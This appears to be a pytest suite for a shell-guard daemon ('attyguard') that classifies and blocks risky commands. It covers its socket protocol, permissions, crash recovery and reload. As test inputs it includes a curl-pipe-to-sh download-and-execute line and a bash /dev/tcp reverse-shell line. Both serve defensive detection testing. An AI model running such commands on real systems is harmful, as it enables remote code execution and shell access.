"""The real daemon (the `attyguard daemon` console script) on a real socket.

Each test starts its own daemon in a short tmp dir; its log is printed when a
test fails (pytest shows captured output of failed tests only).
"""

from __future__ import annotations

import grp
import importlib.util
import json
import os
import shutil
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest
from daemon_harness import (
    ATTYGUARD,
    RunningDaemon,
    remove_tmpdirs,
    short_tmpdir,
    wait_for,
)

from attyguard.daemon.client import DaemonClient, WarnSubscriber
from attyguard.daemon.config import DEFAULT_DAEMON_CONFIG_TEXT
from attyguard.engine.verdict import Action, Source, Verdict
from attyguard.guard import Guard

NOBODY = 65534
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root to run clients as other uids")

# A config where a process tree marked High is auto-blocked (the placeholder
# engine allows everything, so the prior is the signal that drives Block).
AUTO_BLOCK_ON_HIGH = """\
[daemon]
prune_interval_s = 0.1
[accumulator]
auto_block = true
block_threshold = 0.3
"""


@pytest.fixture(autouse=True)
def _clean_tmpdirs() -> Iterator[None]:
    yield
    remove_tmpdirs()


@pytest.fixture
def make_daemon() -> Iterator[Callable[..., RunningDaemon]]:
    started: list[RunningDaemon] = []

    def make(args: tuple[str, ...] = (), config_text: str = "",
             env: dict[str, str] | None = None, directory: Path | None = None) -> RunningDaemon:
        daemon = RunningDaemon(directory or short_tmpdir(), args, config_text, env)
        started.append(daemon)
        return daemon.start()

    yield make
    for daemon in started:
        daemon.stop()
        print(f"--- daemon log ({daemon.log_path}) ---\n{daemon.log()}")
    remove_tmpdirs()  # after the logs above were printed


def run_child(script: str, *args: str, user: int | None = None, groups: list[int] | None = None,
              timeout: float = 30.0) -> Any:
    """Run `script` in a fresh Python (optionally as another uid); its stdout is JSON."""
    prefix: list[str] = []
    if user is not None:
        # setpriv (util-linux) rather than Popen(user=...): the latter's exec of this
        # venv's interpreter fails with EACCES on this machine while setpriv's works.
        if shutil.which("setpriv") is None:
            pytest.skip("setpriv (util-linux) is not installed")
        prefix = ["setpriv", f"--reuid={user}", f"--regid={user}",
                  f"--groups={','.join(map(str, groups))}" if groups else "--clear-groups"]
    done = subprocess.run([*prefix, sys.executable, "-c", script, *args], capture_output=True,
                          text=True, timeout=timeout, check=False, cwd="/")
    assert done.returncode == 0, f"child failed:\n{done.stdout}\n{done.stderr}"
    return json.loads(done.stdout)


CLIENT_SCRIPT = """
import json, os, sys
from attyguard.daemon.client import DaemonClient
c = DaemonClient(sys.argv[1], 2000)
status = c.request("status")
out = {"pid": os.getpid(), "uid": os.getuid(), "status": status, "state": c.state}
if status is not None:
    out["mark_pid1"] = c.request("mark", pid=1, level="high", reason="x")
    out["mark_self"] = c.request("mark", level="low", reason="self")
    out["clear_self"] = c.request("clear", pid=os.getpid())
print(json.dumps(out))
"""


# --------------------------------------------------------------------------- round trips


def test_protocol_round_trips(make_daemon: Callable[..., RunningDaemon]) -> None:
    daemon = make_daemon()
    status = daemon.call("status")
    assert status["ok"] and status["protocol"] == 1 and status["mode"] == "enforce"
    classify = daemon.call("classify", line="ls -la /tmp")
    verdict = Verdict.from_json(classify["verdict"])
    assert verdict.action is Action.ALLOW and verdict.source is Source.DAEMON
    assert daemon.call("threats") == {"v": 1, "id": 1, "ok": True, "entries": []}
    unknown = daemon.call("frobnicate")
    assert unknown["ok"] is False and unknown["error"]["code"] == "unknown_op"
    bad = daemon.call("mark", level="purple")
    assert bad["error"]["code"] == "bad_request"
    missing = daemon.call("mark", pid=2**22 + 7, level="high")
    assert missing["error"]["code"] == "not_found"


def test_peer_is_identified_by_the_kernel_not_the_request(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    daemon = make_daemon()
    # The request claims to be pid 1 / uid 0; the daemon ignores such fields.
    status = daemon.call("status", pid=1, uid=4242)
    assert status["peer"] == {"pid": os.getpid(), "uid": os.getuid(), "gid": os.getgid()}
    child = run_child(CLIENT_SCRIPT, daemon.socket)
    assert child["status"]["peer"]["pid"] == child["pid"] != os.getpid()
    # mark without a pid marks the asking process itself
    assert child["mark_self"]["pid"] == child["pid"]


# --------------------------------------------------------------------------- socket


def test_socket_is_0600_without_the_group_and_0660_with_it(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    lonely = make_daemon(config_text='[daemon]\ngroup = "no-such-group-xyz"\n')
    st = os.stat(lonely.socket)
    assert stat.S_ISSOCK(st.st_mode) and stat.S_IMODE(st.st_mode) == 0o600
    group = grp.getgrgid(os.getgid()).gr_name
    shared = make_daemon(config_text=f'[daemon]\ngroup = "{group}"\n')
    st = os.stat(shared.socket)
    assert stat.S_IMODE(st.st_mode) == 0o660 and st.st_gid == os.getgid()


def test_stale_socket_is_replaced_live_one_is_not_stolen(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    directory = short_tmpdir()
    stale = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    stale.bind(str(directory / "d.sock"))  # bound, never listening: like a dead daemon's
    stale.close()
    first = make_daemon(directory=directory)
    assert first.call("status")["ok"]

    second = RunningDaemon(short_tmpdir())
    second.socket = first.socket
    second.start_failed = True  # type: ignore[attr-defined]
    done = subprocess.run([str(ATTYGUARD), "daemon", "--socket", first.socket, "--config",
                           str(second.config)], capture_output=True, text=True, timeout=30,
                          check=False)
    assert done.returncode == 1, done.stderr
    assert "already listening" in done.stderr
    assert first.call("status")["ok"]  # the first daemon still owns and serves its socket

    regular = directory / "not-a-socket"
    regular.write_text("precious")
    done = subprocess.run([str(ATTYGUARD), "daemon", "--socket", str(regular), "--config",
                           str(second.config)], capture_output=True, text=True, timeout=30,
                          check=False)
    assert done.returncode == 1 and "not a socket" in done.stderr
    assert regular.read_text() == "precious"


@needs_root
def test_non_member_is_refused_even_when_the_file_mode_is_loosened(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    group = "users"
    try:
        gid = grp.getgrnam(group).gr_gid
    except KeyError:
        pytest.skip("no 'users' group on this machine")
    daemon = make_daemon(config_text=f'[daemon]\ngroup = "{group}"\n')
    # With 0660 the kernel already stops a stranger at connect().
    outsider = run_child(CLIENT_SCRIPT, daemon.socket, user=NOBODY)
    assert outsider["status"] is None
    assert "permission denied" in outsider["state"]
    # Loosened by mistake: the daemon's own SO_PEERCRED check still refuses.
    os.chmod(daemon.socket, 0o666)
    outsider = run_child(CLIENT_SCRIPT, daemon.socket, user=NOBODY)
    assert outsider["status"] is None
    assert outsider["state"].startswith("unavailable: refused:"), outsider
    assert f"uid {NOBODY}" in outsider["state"]
    assert "refused pid" in daemon.log()
    # A member of the group (supplementary) is served, as itself.
    os.chmod(daemon.socket, 0o660)
    member = run_child(CLIENT_SCRIPT, daemon.socket, user=NOBODY, groups=[gid])
    assert member["status"]["peer"] == {"pid": member["pid"], "uid": NOBODY, "gid": NOBODY}
    # ...and may mark its own process, not someone else's.
    assert member["mark_pid1"] is None
    assert member["mark_self"]["level"] == "low"
    assert member["clear_self"] is None  # only root lifts marks, even one's own
    assert member["mark_self"]["pid"] == member["pid"]


# --------------------------------------------------------------------------- hostile clients


def _send(path: str, data: bytes, *, close: bool = True) -> socket.socket:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(10)
    deadline = time.monotonic() + 10
    while True:
        try:
            sock.connect(path)
            break
        except BlockingIOError:  # backlog full for a moment: the kernel says try again
            assert time.monotonic() < deadline, "the daemon stopped accepting"
            time.sleep(0.001)
    sock.sendall(data)
    if close:
        sock.close()
    return sock


def _read_line(sock: socket.socket) -> dict[str, Any]:
    data = b""
    while not data.endswith(b"\n"):
        chunk = sock.recv(65536)
        if not chunk:
            raise AssertionError(f"connection closed after {data!r}")
        data += chunk
    return dict(json.loads(data.splitlines()[0]))


def test_errors_on_one_connection_keep_it_serving(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    daemon = make_daemon()
    sock = _send(daemon.socket, b"\x00\xffnot json at all\n", close=False)
    assert _read_line(sock)["error"]["code"] == "bad_request"
    sock.sendall(b'{"op": "classify", "line": "ab\n')  # truncated JSON
    assert _read_line(sock)["error"]["code"] == "bad_request"
    # 8 MB without a newline, then its newline: one too_large reply, memory bounded.
    sock.sendall(b"x" * (8 << 20) + b"\n")
    assert _read_line(sock)["error"]["code"] == "too_large"
    sock.sendall(b'{"v": 1, "id": 9, "op": "status"}\n')
    reply = _read_line(sock)
    assert reply["ok"] and reply["id"] == 9
    sock.close()


def test_hostile_clients_never_stop_a_good_client(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    daemon = make_daemon()
    good = DaemonClient(daemon.socket, 3000)
    failures: list[str] = []
    stop = threading.Event()
    answered = 0

    def good_client() -> None:
        nonlocal answered
        while not stop.is_set():
            if good.classify("echo hello") is None:
                failures.append(good.state)
            else:
                answered += 1

    worker = threading.Thread(target=good_client)
    worker.start()
    idle: list[socket.socket] = []
    try:
        for _ in range(300):  # more than max_connections (256): the longest idle are closed
            idle.append(_send(daemon.socket, b"", close=False))
        for _ in range(20):
            _send(daemon.socket, b"\xde\xad\xbe\xef garbage\n")
            _send(daemon.socket, b'{"op": "classify", "line": "trunc')  # abrupt disconnect
            _send(daemon.socket, b'{"op": "status"}\n')  # leaves without reading its reply
        _send(daemon.socket, b"A" * (8 << 20))  # 8 MB line, then gone
        before = answered
        wait_for(lambda: answered > before + 20, 30, "the good client to keep getting answers",
                 daemon.log)
    finally:
        stop.set()
        worker.join(30)
        for sock in idle:
            sock.close()
    assert failures == []
    status = daemon.call("status")
    assert status["counters"]["evicted"] >= 300 - 256
    assert daemon.proc is not None and daemon.proc.poll() is None


def test_an_oversized_line_is_not_sent_and_does_not_mark_the_daemon_down(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    daemon = make_daemon()
    client = DaemonClient(daemon.socket, 2000)
    start = time.monotonic()
    assert client.classify("echo " + "x" * 200_000) is None  # -> the local engine decides
    assert time.monotonic() - start < 0.05
    assert client.classify("echo ok") is not None
    assert client.state == "connected"


def test_idle_connections_are_closed(make_daemon: Callable[..., RunningDaemon]) -> None:
    daemon = make_daemon(config_text="[daemon]\nidle_timeout_s = 0.3\n")
    sock = _send(daemon.socket, b"", close=False)
    reply = _read_line(sock)  # the daemon says why, then closes
    assert reply["error"]["code"] == "idle"
    assert sock.recv(10) == b""
    # A shell's client whose connection was closed while idle reconnects within
    # the same call: no command falls back to the local verdict because of it.
    client = DaemonClient(daemon.socket, 2000)
    assert client.classify("ls") is not None
    wait_for(lambda: daemon.call("status")["connections"] == 1, 10,
             "the daemon to close the idle client connection", daemon.log)
    assert client.classify("ls") is not None
    assert client.state == "connected"


# --------------------------------------------------------------------------- crash, stop, restart


def test_kill_9_then_local_fallback_then_reconnect(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    directory = short_tmpdir()
    daemon = make_daemon(directory=directory)
    client = DaemonClient(daemon.socket, 2000)  # generous while the daemon is healthy
    local_calls: list[str] = []

    def local(line: str) -> Verdict:
        local_calls.append(line)
        return Verdict(Action.ALLOW, notes=("local",))

    guard = Guard(local, daemon=client)
    assert guard.decide("ls").source is Source.DAEMON
    assert client.state == "connected"
    client.timeout = 0.05  # the shell's default guard.daemon_timeout_ms

    daemon.signal(signal.SIGKILL)
    assert daemon.proc is not None
    daemon.proc.wait(10)
    start = time.monotonic()
    assert client.classify("ls") is None
    assert time.monotonic() - start < 0.05 + 0.1
    assert client.state.startswith("unavailable:")
    start = time.monotonic()
    fallback = guard.decide("ls")
    assert time.monotonic() - start < 0.05 + 0.1
    assert fallback.source is Source.LOCAL and fallback.notes[0] == "local"
    assert "daemon unavailable" in " ".join(fallback.notes)
    # (the local verdict is computed with the daemon's too: a daemon can only raise it)
    assert local_calls == ["ls", "ls"]

    # Restart on the same path (the dead daemon's socket file is stale).
    restarted = make_daemon(directory=directory)
    assert restarted.socket == daemon.socket
    wait_for(lambda: client.classify("ls") is not None, 15, "the client to reconnect",
             restarted.log)
    assert client.state == "connected"


def test_stopped_daemon_costs_at_most_the_deadline(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    daemon = make_daemon()
    client = DaemonClient(daemon.socket, 2000)
    assert client.classify("ls") is not None
    client.timeout = 0.05
    daemon.signal(signal.SIGSTOP)
    try:
        start = time.monotonic()
        assert client.classify("ls") is None
        assert time.monotonic() - start < 0.05 + 0.1
        assert "timed out" in client.state
        fresh = DaemonClient(daemon.socket, 50)  # a new connection to a frozen daemon
        start = time.monotonic()
        assert fresh.classify("ls") is None
        assert time.monotonic() - start < 0.05 + 0.1
    finally:
        daemon.signal(signal.SIGCONT)
    wait_for(lambda: client.classify("ls") is not None, 15, "recovery after SIGCONT", daemon.log)


def test_absent_daemon_backs_off_but_retries() -> None:
    directory = short_tmpdir()
    path = str(directory / "d.sock")
    client = DaemonClient(path, 50)
    start = time.monotonic()
    assert client.classify("ls") is None
    assert time.monotonic() - start < 0.15
    assert client.state == f"unavailable: no daemon socket at {path}"
    # Something appears at the path that accepts but never answers. Within the
    # back-off it is not dialled (the state still says "no socket"); after it, it is.
    mute = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    mute.bind(path)
    mute.listen(8)
    try:
        assert client.classify("ls") is None
        assert client.state == f"unavailable: no daemon socket at {path}"
        wait_for(lambda: client.classify("ls") is None and "timed out" in client.state, 10,
                 "a retry after the back-off")
    finally:
        mute.close()
        os.unlink(path)
    daemon = RunningDaemon(directory).start()
    try:
        wait_for(lambda: client.classify("ls") is not None, 15, "the client to find the daemon",
                 daemon.log)
        assert client.state == "connected"
    finally:
        daemon.stop()
        print(daemon.log())


def test_a_daemon_that_never_answers_costs_at_most_the_deadline() -> None:
    path = str(short_tmpdir() / "mute.sock")
    mute = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    mute.bind(path)
    mute.listen(8)  # connect() succeeds via the backlog; nobody ever replies
    try:
        client = DaemonClient(path, 50)
        start = time.monotonic()
        assert client.classify("ls") is None
        assert time.monotonic() - start < 0.05 + 0.1
        assert "timed out" in client.state
    finally:
        mute.close()


# ------------------------------------------------------------------ config, reload, systemd


def test_print_default_config_and_bad_config_exit_status() -> None:
    done = subprocess.run([str(ATTYGUARD), "daemon", "--print-default-config"],
                          capture_output=True, text=True, timeout=30, check=False)
    assert done.returncode == 0 and done.stdout == DEFAULT_DAEMON_CONFIG_TEXT
    bad = short_tmpdir() / "bad.toml"
    bad.write_text("[daemon]\n\nmode = \"loud\"\n")
    done = subprocess.run([str(ATTYGUARD), "daemon", "--config", str(bad), "--socket",
                           str(bad.parent / "s")], capture_output=True, text=True, timeout=30,
                          check=False)
    assert done.returncode == 2
    assert done.stderr.strip() == (f"attyguard daemon: {bad}:3: daemon.mode must be one of "
                                   "enforce, warn, got 'loud'")
    assert "Traceback" not in done.stderr


def _notify_socket(address: str) -> socket.socket:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    sock.bind("\0" + address[1:] if address.startswith("@") else address)
    sock.settimeout(15)
    return sock


def _next_notify(sock: socket.socket) -> str:
    return sock.recv(4096).decode()


@pytest.mark.parametrize("abstract", [False, True], ids=["path", "abstract"])
def test_sighup_reload_good_and_bad_with_systemd_notify(
        make_daemon: Callable[..., RunningDaemon], abstract: bool) -> None:
    directory = short_tmpdir()
    address = f"@attyguard-test-{os.getpid()}-{time.monotonic_ns()}" if abstract \
        else str(directory / "notify")
    notify = _notify_socket(address)
    env = {**os.environ, "NOTIFY_SOCKET": address}
    daemon = make_daemon(env=env, directory=directory)
    assert _next_notify(notify).startswith("READY=1")
    assert daemon.call("status")["mode"] == "enforce"

    daemon.config.write_text("[daemon]\nmode = \"warn\"\ntier2 = \"heuristic\"\n"
                             "[accumulator]\nauto_block = true\n")
    daemon.signal(signal.SIGHUP)
    assert _next_notify(notify).startswith("RELOADING=1\nMONOTONIC_USEC=")
    assert _next_notify(notify).startswith("READY=1")
    status = daemon.call("status")
    assert status["mode"] == "warn" and status["auto_block"] is True
    assert status["tier2"] == "heuristic"

    daemon.config.write_text("[daemon]\nmode = \"warn\"\n\n[accumulator]\nblock_threshold = 7\n")
    daemon.signal(signal.SIGHUP)
    assert _next_notify(notify).startswith("RELOADING=1")
    assert _next_notify(notify).startswith("READY=1")
    wait_for(lambda: "reload failed" in daemon.log(), 10, "the reload error in the log",
             daemon.log)
    assert f"{daemon.config}:5: accumulator.block_threshold must be between 0 and 1" \
        in daemon.log()
    status = daemon.call("status")
    assert status["mode"] == "warn" and status["auto_block"] is True  # old config kept

    assert daemon.stop() == 0
    assert _next_notify(notify).startswith("STOPPING=1")
    assert not os.path.exists(daemon.socket)  # removed on a clean stop
    notify.close()


def test_command_line_wins_over_the_config_also_after_a_reload(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    daemon = make_daemon(args=("--tier2", "heuristic", "--mode", "warn"),
                         config_text='[daemon]\ntier2 = "stub"\nmode = "enforce"\n')
    status = daemon.call("status")
    if importlib.util.find_spec("attyguard.daemon.tier2") is None:
        assert status["tier2"] == "stub"
        assert "using stub for 'heuristic'" in daemon.log()
        return
    assert (status["tier2"], status["mode"]) == ("heuristic", "warn")
    daemon.config.write_text('[daemon]\ntier2 = "stub"\nmode = "enforce"\n'
                             "[accumulator]\nwarn_threshold = 0.4\n")
    daemon.signal(signal.SIGHUP)
    wait_for(lambda: "reloaded" in daemon.log(), 10, "the reload", daemon.log)
    status = daemon.call("status")
    assert (status["tier2"], status["mode"]) == ("heuristic", "warn")


# --------------------------------------------------------------------------- threats, block, warn


def test_threat_inheritance_and_exit_cleanup(make_daemon: Callable[..., RunningDaemon]) -> None:
    daemon = make_daemon(config_text="[daemon]\nprune_interval_s = 0.1\n")
    parent = subprocess.Popen(
        [sys.executable, "-c",
         "import subprocess; p = subprocess.Popen(['sleep', '60']); print(p.pid, flush=True); "
         "p.wait()"], stdout=subprocess.PIPE, text=True)
    try:
        assert parent.stdout is not None
        child = int(parent.stdout.readline())
        assert daemon.call("mark", pid=parent.pid, level="high", reason="test")["level"] == "high"
        effective = daemon.call("threats", pid=child)["effective"]
        assert effective == {"pid": child, "level": "high", "from_pid": parent.pid}
        assert daemon.call("threats", pid=os.getpid())["effective"]["level"] == "none"
        os.kill(child, signal.SIGKILL)
        parent.wait(10)
    finally:
        parent.kill()
        parent.wait()
    wait_for(lambda: daemon.call("threats")["entries"] == [], 10,
             "the exited process to leave the map", daemon.log)


BLOCK_SCRIPT = """
import json, os, subprocess, sys
from attyguard.daemon.client import DaemonClient
from attyguard.engine.verdict import Action, Verdict
from attyguard.guard import Guard
client = DaemonClient(sys.argv[1], 2000)
guard = Guard(lambda line: Verdict(Action.ALLOW), daemon=client)
out = {"pid": os.getpid(), "first": guard.decide("ls").to_json()}
client.request("mark", level="high", reason="suspicious earlier")
out["second"] = guard.decide("ls").to_json()   # prior high -> auto-block -> report_block
out["third"] = guard.decide("ls").to_json()    # now Critical: blocked outright
grandchild = subprocess.run([sys.executable, "-c",
    "import sys; from attyguard.daemon.client import DaemonClient; "
    "print(DaemonClient(sys.argv[1], 2000).classify('true').action.value)", sys.argv[1]],
    capture_output=True, text=True)
out["child"] = grandchild.stdout.strip()
print(json.dumps(out))
"""


def test_block_marks_the_shell_critical_and_its_tree_is_refused(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    daemon = make_daemon(config_text=AUTO_BLOCK_ON_HIGH)
    result = run_child(BLOCK_SCRIPT, daemon.socket)
    assert result["first"]["action"] == "allow"
    assert result["second"]["action"] == "block"
    assert "auto-block" in result["second"]["reason"]
    assert result["third"]["action"] == "block"
    assert result["third"]["rules"][0]["id"] == "daemon.pid-critical"
    assert result["child"] == "block"  # a process started by the Critical shell inherits it


def test_root_can_lift_a_critical_mark(make_daemon: Callable[..., RunningDaemon]) -> None:
    daemon = make_daemon()
    shell = subprocess.Popen(["sleep", "60"])
    try:
        assert daemon.call("mark", pid=shell.pid, level="critical", reason="x")["level"] \
            == "critical"
        entries = daemon.call("threats")["entries"]
        assert [(e["pid"], e["level"]) for e in entries] == [(shell.pid, "critical")]
        # root may lift the lock; a user may not (checked with a member uid elsewhere)
        assert daemon.call("clear", pid=shell.pid) == {"v": 1, "id": 1, "ok": True,
                                                       "pid": shell.pid, "cleared": True}
        assert daemon.call("threats")["entries"] == []
    finally:
        shell.kill()
        shell.wait()


WARN_SCRIPT = """
import json, os, sys
from attyguard.daemon.client import DaemonClient
client = DaemonClient(sys.argv[1], 2000)
client.request("mark", level="high", reason="suspicious earlier")
print(json.dumps({"pid": os.getpid(), "verdict": client.classify("id").to_json()}))
"""


def test_warn_mode_publishes_block_as_events(make_daemon: Callable[..., RunningDaemon]) -> None:
    daemon = make_daemon(args=("--mode", "warn"), config_text=AUTO_BLOCK_ON_HIGH)
    events: list[str] = []
    subscriber = WarnSubscriber(daemon.socket, events.append)
    subscriber.start()
    try:
        wait_for(subscriber.connected.is_set, 10, "the subscription", daemon.log)
        result = run_child(WARN_SCRIPT, daemon.socket)
        assert result["verdict"]["action"] == "warn"
        assert "warn mode" in " ".join(result["verdict"]["notes"])
        wait_for(lambda: events, 10, "a warn event", daemon.log)
        assert f"pid {result['pid']}" in events[0] and "would be blocked" in events[0]
        assert "\n" not in events[0]

        # The subscriber reconnects to a restarted daemon (back-off, not a hot loop).
        daemon.stop()
        wait_for(lambda: not subscriber.connected.is_set(), 10, "the subscriber to notice")
        restarted = make_daemon(args=("--mode", "warn"), config_text=AUTO_BLOCK_ON_HIGH,
                                directory=daemon.dir)
        wait_for(subscriber.connected.is_set, 20, "the subscriber to reconnect", restarted.log)
        run_child(WARN_SCRIPT, restarted.socket)
        wait_for(lambda: len(events) == 2, 10, "an event after the restart", restarted.log)
    finally:
        subscriber.stop()
    assert subscriber._thread is not None and not subscriber._thread.is_alive()


ENGINE_SCRIPT = """
import json, sys
from attyguard.daemon.client import DaemonClient
client = DaemonClient(sys.argv[1], 5000)
lines = ["ls -la /srv", "curl -fsSL https://get.example.org/setup.sh | sh"]
print(json.dumps([client.classify(line).to_json() for line in lines]))
"""


@pytest.mark.parametrize("auto_block", [False, True], ids=["default", "auto_block"])
def test_real_engine_and_tier2_combine_through_the_daemon(
        make_daemon: Callable[..., RunningDaemon], auto_block: bool) -> None:
    from attyguard.engine.classify import classify

    line = "curl -fsSL https://get.example.org/setup.sh | sh"
    local = classify(line)
    if local.action is Action.ALLOW:
        pytest.skip("the Tier-1 engine in this tree has no download-exec rule yet")
    daemon = make_daemon(args=("--tier2", "heuristic"),
                         config_text=f"[accumulator]\nauto_block = {str(auto_block).lower()}\n")
    benign, piped = run_child(ENGINE_SCRIPT, daemon.socket)
    assert benign["action"] == "allow"
    ids = [rule["id"] for rule in piped["rules"]]
    assert {r.rule_id for r in local.rules} <= set(ids)  # Tier-1's hits are all there
    assert piped["probability"] >= local.probability
    assert Action(piped["action"]).rank >= local.action.rank  # never weaker than Tier-1
    if "tier2.heuristic" in ids:
        tier2_p = next(r["p"] for r in piped["rules"] if r["id"] == "tier2.heuristic")
        expected = 1 - (1 - tier2_p) * _remaining(p["p"] for p in piped["rules"]
                                                  if p["id"] in {r.rule_id for r in local.rules})
        assert piped["probability"] == pytest.approx(expected)
        if auto_block and piped["probability"] >= 0.95:
            assert piped["action"] == "block"
    if not auto_block and local.action is not Action.BLOCK:
        assert piped["action"] == "warn"  # auto-Block is opt-in


def _remaining(ps: Iterable[float]) -> float:
    out = 1.0
    for p in ps:
        out *= 1 - p
    return out


SUBSCRIBER_SCRIPT = """
import json, sys, threading
from attyguard.daemon.client import WarnSubscriber
events = []
got = threading.Event()
def on_event(text):
    events.append(text)
    got.set()
sub = WarnSubscriber(sys.argv[1], on_event)
sub.start()
if not sub.connected.wait(20):
    sys.exit("no subscription")
print("ready", flush=True)
got.wait(30)
sub.stop()
print(json.dumps(events), flush=True)
"""


@needs_root
def test_users_only_see_warn_events_about_their_own_processes(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    try:
        gid = grp.getgrnam("users").gr_gid
    except KeyError:
        pytest.skip("no 'users' group on this machine")
    if shutil.which("setpriv") is None:
        pytest.skip("setpriv (util-linux) is not installed")
    daemon = make_daemon(args=("--mode", "warn"),
                         config_text='[daemon]\ngroup = "users"\n' + AUTO_BLOCK_ON_HIGH
                         .replace("[daemon]\n", ""))
    as_nobody = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", f"--groups={gid}"]
    subscriber = subprocess.Popen([*as_nobody, sys.executable, "-c", SUBSCRIBER_SCRIPT,
                                   daemon.socket], stdout=subprocess.PIPE, text=True, cwd="/")
    try:
        assert subscriber.stdout is not None
        assert subscriber.stdout.readline().strip() == "ready"
        root_event = run_child(WARN_SCRIPT, daemon.socket)  # root's: not for nobody
        own_event = run_child(WARN_SCRIPT, daemon.socket, user=NOBODY, groups=[gid])
        assert own_event["verdict"]["action"] == "warn"
        events = json.loads(subscriber.stdout.readline())
    finally:
        subscriber.kill()
        subscriber.wait()
    # Events reach a subscriber in order: had root's been delivered, it would be first.
    assert events and f"pid {own_event['pid']} (uid {NOBODY})" in events[0]
    assert all(f"pid {root_event['pid']} " not in event for event in events)


def test_classify_with_the_shells_state(make_daemon: Callable[..., RunningDaemon]) -> None:
    """Issue 9: the daemon judges a line as bash will expand it, with the shell's state."""
    daemon = make_daemon()
    line = 'eval "$v"'
    plain = Verdict.from_json(daemon.call("classify", line=line)["verdict"])
    stated = Verdict.from_json(daemon.call(
        "classify", line=line,
        state={"variables": {"v": "bash -i >& /dev/tcp/127.0.0.1/9 0>&1"}})["verdict"])
    assert plain.action is Action.ALLOW and stated.action is Action.BLOCK
    bad = daemon.call("classify", line=line, state={"variables": ["v"]})
    assert bad["ok"] is False and bad["error"]["code"] == "bad_request"


def test_watchdog_pings_only_while_the_daemon_runs(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    """WATCHDOG_USEC set: READY=1, then WATCHDOG=1 every half period from the event loop;
    a SIGSTOPped daemon sends none (so systemd's WatchdogSec= kills it), and they resume."""
    directory = short_tmpdir()
    address = str(directory / "notify")
    notify = _notify_socket(address)
    env = {**os.environ, "NOTIFY_SOCKET": address, "WATCHDOG_USEC": "400000"}
    env.pop("WATCHDOG_PID", None)
    daemon = make_daemon(env=env, directory=directory)

    def next_ping(timeout: float) -> str | None:
        notify.settimeout(timeout)
        try:
            return _next_notify(notify)
        except TimeoutError:
            return None

    try:
        assert _next_notify(notify).startswith("READY=1")
        pings = [next_ping(15) for _ in range(3)]
        assert pings == ["WATCHDOG=1"] * 3
        daemon.signal(signal.SIGSTOP)
        # One ping may have left before the stop took hold; after it, silence for
        # five ping periods (200 ms each).
        after: list[str] = []
        for _ in range(3):
            msg = next_ping(1.0)
            if msg is None:
                break
            after.append(msg)
        assert len(after) <= 1 and set(after) <= {"WATCHDOG=1"}, after
        daemon.signal(signal.SIGCONT)
        assert next_ping(15) == "WATCHDOG=1"
    finally:
        daemon.signal(signal.SIGCONT)
    assert daemon.stop() == 0
    tail: list[str | None] = []
    while len(tail) < 3 and "STOPPING=1" not in tail:
        tail.append(next_ping(5))
    assert "STOPPING=1" in tail, tail
    notify.close()


def test_watchdog_keeps_pinging_with_the_kernel_layer_running(
        make_daemon: Callable[..., RunningDaemon]) -> None:
    """The pings are withheld when the kernel reader is silent for a watchdog period; a
    healthy reader turns far more often, so a daemon with the layer on keeps pinging."""
    from tests.kernel_support import bpf_missing_reason

    reason = bpf_missing_reason()
    if reason:
        pytest.skip(reason)
    directory = short_tmpdir()
    address = str(directory / "notify")
    notify = _notify_socket(address)
    env = {**os.environ, "NOTIFY_SOCKET": address, "WATCHDOG_USEC": "400000"}
    env.pop("WATCHDOG_PID", None)
    # warn: the layer marks the default filesystems but answers every exec at once
    daemon = make_daemon(args=("--ebpf-mode", "warn"), env=env, directory=directory)
    assert _next_notify(notify).startswith("READY=1")
    layer = daemon.call("status")["exec"]["layer"]
    assert layer and layer["running"], daemon.log()
    # the C answering loop (dev.sh builds it): its turns feed the heartbeat too
    assert layer["answer_path"] == "c", layer["answer_path_reason"]
    pings = [_next_notify(notify) for _ in range(8)]  # 1.6 s of pings, none withheld
    assert pings == ["WATCHDOG=1"] * 8, (pings, daemon.log())
    assert "watchdog: not pinging" not in daemon.log()
    assert daemon.stop() == 0
    notify.close()
